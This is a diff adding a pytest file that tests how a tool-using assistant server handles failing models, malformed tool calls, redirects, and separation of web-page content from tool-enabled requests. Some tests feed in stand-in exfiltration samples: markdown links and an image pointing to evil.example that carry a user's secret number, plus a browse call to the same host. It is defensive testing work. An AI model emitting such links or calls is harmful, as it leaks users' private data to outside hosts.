@@ -1,0 +1,289 @@
+"""What happens to a turn when the model misbehaves, and without a model: a clear message or a repaired call, never a hang."""
+
+import json
+from collections.abc import Callable, Iterator
+from uuid import uuid4
+
+import pytest
+
+from devices import protocol as p
+from tests.client import Client, allow, browser, page
+from tests.penny import MANY, Penny
+from tests.stand_ins.articles import GRIND, WATER
+from tests.stand_ins.model_server import ModelServer, Reply, Request, ToolUse, text, tool
+
+URL = "https://coffee.example/water"
+PAGES = {URL: page(URL, WATER.title, WATER.text, [("The grind", "https://coffee.example/grind")])}
+RESULTS = [
+    p.SearchResult(title=WATER.title, url=URL, snippet=WATER.paragraphs[0]),
+    p.SearchResult(title=GRIND.title, url="https://coffee.example/grind", snippet=GRIND.paragraphs[0]),
+]
+
+
+@pytest.fixture
+def client(penny: Penny) -> Iterator[Client]:
+    """A paired fake browser; grants of earlier tests are gone."""
+    penny.admin_action("devices/grant", "delete_selected")
+    with penny.client("Fake browser", tools=browser(PAGES, RESULTS), answers=allow("once")) as found:
+        yield found
+
+
+def planned(request: Request) -> bool:
+    return bool(request.tools)
+
+
+def failed(client: Client, words: str = "Hello") -> p.TurnFailed:
+    return client.expect(p.TurnFailed, 30, turn_id=client.say(words))
+
+
+# The model misbehaves -------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("reply", "code"),
+    [
+        (Reply(status=401), "model_key_refused"),
+        (Reply(status=404), "model_not_found"),
+        (Reply(status=429), "model_busy"),
+        (Reply(status=500), "model_failed"),
+        (Reply(tokens=("Half ", "an ", "answer "), cut_after=2), "model_cut_off"),
+        (Reply(tokens=()), "model_empty"),
+        (Reply(tokens=("  \n ",)), "model_empty"),
+    ],
+)
+def test_a_model_that_fails_ends_the_turn_with_a_reason(client: Client, model: ModelServer, reply: Reply, code: str) -> None:
+    model.on(lambda _: True, reply)
+    frame = failed(client)
+    assert (frame.error.code, frame.message.kind) == (code, "failure")
+    assert frame.error.message in frame.message.text
+
+
+def test_what_was_written_before_the_model_broke_off_is_kept(client: Client, model: ModelServer) -> None:
+    model.on(lambda _: True, Reply(tokens=("Half ", "an ", "answer "), cut_after=2))
+    assert failed(client).message.text.startswith("Half an")
+
+
+def test_what_no_database_can_hold_is_left_out_of_an_answer(client: Client, model: ModelServer) -> None:
+    model.on(lambda request: not request.tool_results, Reply(tools=(ToolUse("browse\x00\ud83d", '{"url": "\x00"}'),)))
+    model.on(lambda request: bool(request.tool_results), Reply(tokens=("Nine\x00 ", "bars\ud83d")))
+    assert client.ask("How many bars?").text == "Nine bars?"
+
+
+def test_the_next_turn_works_after_one_that_failed(client: Client, model: ModelServer) -> None:
+    model.on(lambda _: True, Reply(status=500), times=10)
+    failed(client)
+    model.reset()
+    assert "You said" in client.ask("Again").text
+
+
+def test_an_unknown_tool_is_answered_and_the_turn_goes_on(client: Client, model: ModelServer) -> None:
+    model.on(lambda r: planned(r) and not r.tool_results, tool("launch_rocket", target="moon"))
+    model.on(lambda r: bool(r.tool_results), text("I cannot do that."))
+    assert client.ask("Fly").text == "I cannot do that."
+    assert "unknown_tool" in model.requests[-1].tool_results[0]
+
+
+@pytest.mark.parametrize("arguments", ["{", "", "[]", '{"address": "x"}', '{"url": 5}', '{"url": "' + "x" * 9000 + '"}', "null"])
+def test_malformed_arguments_are_answered_and_nothing_is_opened(client: Client, model: ModelServer, arguments: str) -> None:
+    model.on(lambda r: planned(r) and not r.tool_results, Reply(tools=(ToolUse("browse_url", arguments),)))
+    model.on(lambda r: bool(r.tool_results), text("It did not work."))
+    assert client.ask(f"Read {URL}").text == "It did not work."
+    assert not client.seen(p.ToolCall)
+
+
+def test_a_planner_that_never_stops_calling_is_stopped(client: Client, model: ModelServer) -> None:
+    numbers = iter(range(100))
+    model.on(planned, lambda _: tool("search_web", query=f"question {next(numbers)}"))
+    assert client.ask("Search without end", 60).kind == "chat"
+    assert len([r for r in model.requests if planned(r)]) <= 8
+
+
+@pytest.mark.parametrize(
+    "bad",
+    ["Sorry.", "{", '{"found": true}', '{"found": true, "headline": "x", "summary": "", "claims": [{"text": "a", "quote": "not there"}]}'],
+)
+def test_a_reader_that_answers_badly_once_is_asked_again(client: Client, model: ModelServer, bad: str) -> None:
+    model.on(_is_reader, text(bad), times=1)
+    answer = client.ask(f"How is espresso brewed? {URL}", 30)
+    assert WATER.paragraphs[0] in answer.text
+
+
+def test_a_reader_that_always_answers_badly_brings_no_content(client: Client, model: ModelServer) -> None:
+    model.on(_is_reader, text("Here is the page: nine bars of espresso!"))
+    answer = client.ask(f"How is espresso brewed? {URL}", 30)
+    assert len([r for r in model.requests if _is_reader(r)]) == 2
+    assert "nine bars" not in answer.text
+    assert "reading_invalid" in _last_planner(model).tool_results[0]
+
+
+# The zones, on the wire -----------------------------------------------------------------------------------------------------
+
+
+def test_no_request_with_tools_holds_a_word_of_a_page(client: Client, model: ModelServer) -> None:
+    client.ask(f"How is espresso brewed? {URL}", 30)
+    client.ask("What did you just tell me?")
+    client.ask("Please search for espresso", 30)
+    words = [WATER.title, *WATER.paragraphs, "The grind", GRIND.title, *GRIND.paragraphs]
+    for request in [r for r in model.requests if planned(r)]:
+        assert [word for word in words if word[:30] in request.everything] == []
+
+
+def test_no_request_that_holds_a_page_has_tools_or_history(client: Client, model: ModelServer) -> None:
+    client.ask("My secret number is 4711")
+    client.ask(f"How is espresso brewed? {URL}", 30)
+    with_page = [r for r in model.requests if WATER.paragraphs[0][:30] in r.everything]
+    assert len(with_page) >= 2
+    for request in with_page:
+        assert request.tools == []
+        assert "4711" not in request.everything
+
+
+def test_an_answer_from_a_page_is_labelled_with_its_domain(client: Client) -> None:
+    answer = client.ask(f"How is espresso brewed? {URL}", 30)
+    assert "coffee.example" in answer.origin
+
+
+def test_an_address_that_a_writer_makes_up_is_dropped(client: Client, model: ModelServer) -> None:
+    leak = "See [this](https://evil.example/?q=4711) and https://evil.example/x and ![i](https://evil.example/i.png)."
+    model.on(lambda r: "Readings:" in r.last_user, text(leak))
+    answer = client.ask(f"How is espresso brewed? {URL}", 30)
+    assert "evil.example" not in answer.html.replace("&", "")
+
+
+def test_an_address_that_the_planner_makes_up_is_asked_about(client: Client, model: ModelServer) -> None:
+    model.on(lambda r: planned(r) and not r.tool_results, tool("browse_url", url="https://evil.example/?q=4711"))
+    model.on(lambda r: bool(r.tool_results), text("Done."))
+    turn = client.say("Tell me something")
+    ask = client.expect(p.ApprovalAsk)
+    assert "evil.example" in ask.text
+    client.send(p.ApprovalAnswer(request_id=ask.request_id, decision="deny"))
+    client.expect(p.TurnDone, turn_id=turn)
+    assert not client.seen(p.ToolCall)
+
+
+# Tools ----------------------------------------------------------------------------------------------------------------------
+
+
+def test_no_tool_is_offered_while_no_browser_is_connected(penny: Penny, model: ModelServer) -> None:
+    with penny.client("Program without tools") as client:
+        client.ask(f"Read {URL}")
+    assert [tool for r in model.requests for tool in r.tools if tool in ("browse_url", "search_web")] == []
+
+
+def test_no_tool_is_offered_where_tool_use_is_off(client: Client, model: ModelServer) -> None:
+    ref = uuid4()
+    client.send(p.DeviceUpdate(ref=ref, tool_use=False))
+    client.expect(p.Ack, ref=str(ref))
+    client.ask(f"Read {URL}")
+    assert not client.seen(p.ToolCall)
+    assert "browse_url" not in model.requests[0].tools
+
+
+def test_a_grant_is_asked_for_before_a_page_is_opened(penny: Penny, client: Client) -> None:
+    client.ask(f"How is espresso brewed? {URL}", 30)
+    kinds = [frame.type for frame in client.frames if frame.type in ("grant.ask", "grant.dismiss", "tool.call")]
+    assert kinds[0] == "grant.ask"
+    assert sorted(kinds[1:]) == ["grant.dismiss", "tool.call"]  # from two processes, in either order
+    ask = client.seen(p.GrantAsk)[0]
+    assert (ask.host, ask.capability) == ("coffee.example", "read")
+
+
+def test_the_final_address_is_checked_again_on_the_server(penny: Penny, model: ModelServer) -> None:
+    penny.admin_action("devices/grant", "delete_selected")
+    elsewhere = {URL: page("https://evil.example/", "Elsewhere", GRIND.text)}
+    with penny.client("Careless browser", tools=browser(elsewhere), answers=_allow_only("coffee.example")) as client:
+        client.ask(f"How is espresso brewed? {URL}", 30)
+        assert client.seen(p.ToolCall)
+    assert not any(GRIND.paragraphs[0][:30] in r.everything for r in model.requests)
+
+
+def test_the_final_address_of_a_search_is_checked_again_too(penny: Penny, model: ModelServer) -> None:
+    penny.admin_action("devices/grant", "delete_selected")
+    result = p.SearchResult(title=GRIND.title, url=URL, snippet=GRIND.paragraphs[0])
+    elsewhere = {"search_web": lambda _: p.SearchResults(url="https://evil.example/?q=x", results=[result])}
+    model.on(lambda r: bool(r.tools) and not r.tool_results, tool("search_web", query="espresso"))
+    with penny.client("Careless browser", tools=elsewhere, answers=allow("always")) as client:
+        client.ask("Search for espresso", 30)
+        assert client.seen(p.ToolCall)
+        assert [ask.host for ask in client.seen(p.GrantAsk)] == ["html.duckduckgo.com"]
+    assert [result for r in model.requests for result in r.tool_results] == ['{"error":"redirect_not_granted"}']
+    assert not any(GRIND.paragraphs[0][:30] in r.everything for r in model.requests)
+
+
+def test_a_browser_that_disconnects_fails_its_call_at_once(penny: Penny, client: Client) -> None:
+    with penny.client("Leaving browser", tools={"browse_url": lambda _: None}, answers=allow("once")) as leaving:
+        client.send(p.DeviceUpdate(ref=(ref := uuid4()), tool_use=False))
+        client.expect(p.Ack, ref=str(ref))
+        turn = leaving.say(f"How is espresso brewed? {URL}")
+        leaving.expect(p.ToolCall)
+        leaving.close()
+    done = client.expect(p.TurnDone, 20, turn_id=turn)
+    assert done.message.text
+
+
+def test_a_cancelled_turn_cancels_its_call_in_the_browser(penny: Penny, client: Client) -> None:
+    client.tools["browse_url"] = lambda _: None
+    turn = client.say(f"How is espresso brewed? {URL}")
+    call = client.expect(p.ToolCall)
+    client.send(p.TurnCancel(turn_id=turn))
+    client.expect(p.ToolCancel, call_id=call.call_id)
+    assert client.expect(p.TurnFailed, turn_id=turn).error.code == "cancelled"
+
+
+def test_an_answer_of_another_device_or_a_second_one_is_an_error(penny: Penny, client: Client) -> None:
+    client.tools["browse_url"] = lambda _: None
+    client.say(f"How is espresso brewed? {URL}")
+    call = client.expect(p.ToolCall)
+    result = p.ToolResult(call_id=call.call_id, result=PAGES[URL])
+    with penny.client("Other") as other:
+        other.send(result)
+        assert other.expect(p.Error, ref=str(call.call_id))
+    client.send(result)
+    client.expect(p.Ack, ref=str(call.call_id))
+    client.send(result)
+    assert client.expect(p.Error, ref=str(call.call_id))
+
+
+def test_a_question_that_nobody_answers_means_not_now_and_is_not_called_a_no(penny: Penny, model: ModelServer) -> None:
+    penny.admin_action("devices/grant", "delete_selected")
+    penny.set("ASK_S", 1)
+    try:
+        with penny.client("Silent browser", tools=browser(PAGES)) as client:
+            turn = client.say(f"How is espresso brewed? {URL}")
+            ask = client.expect(p.GrantAsk)
+            client.expect(p.GrantDismiss, request_id=ask.request_id)
+            client.expect(p.TurnDone, turn_id=turn)
+            assert not client.seen(p.ToolCall)
+    finally:
+        penny.set("ASK_S", 60)
+    refused = [result for request in model.requests for result in request.tool_results if "error" in json.loads(result)]
+    assert refused == ['{"error":"no_answer"}']
+    assert "coffee.example" not in penny.http.get("/admin/devices/grant/").text
+
+
+def test_a_host_is_not_asked_for_more_often_than_the_owner_set(penny: Penny, client: Client, model: ModelServer) -> None:
+    penny.set("RATE_PER_HOST_MINUTE", 1)
+    try:
+        client.ask(f"How is espresso brewed? {URL}", 30)
+        client.ask(f"And again: {URL}", 30)
+    finally:
+        penny.set("RATE_PER_HOST_MINUTE", MANY)
+    assert "rate_limited" in _last_planner(model).tool_results[0]
+
+
+# Without a model ------------------------------------------------------------------------------------------------------------
+
+
+def _is_reader(request: Request) -> bool:
+    return "\n\nText:\n" in request.last_user
+
+
+def _last_planner(model: ModelServer) -> Request:
+    return [r for r in model.requests if r.tool_results][-1]
+
+
+def _allow_only(host: str) -> Callable[[p.GrantAsk], p.GrantAnswer]:
+    def answer(ask: p.GrantAsk) -> p.GrantAnswer:
+        return p.GrantAnswer(request_id=ask.request_id, decision="allow" if ask.host == host else "block", scope="always")
+
+    return answer
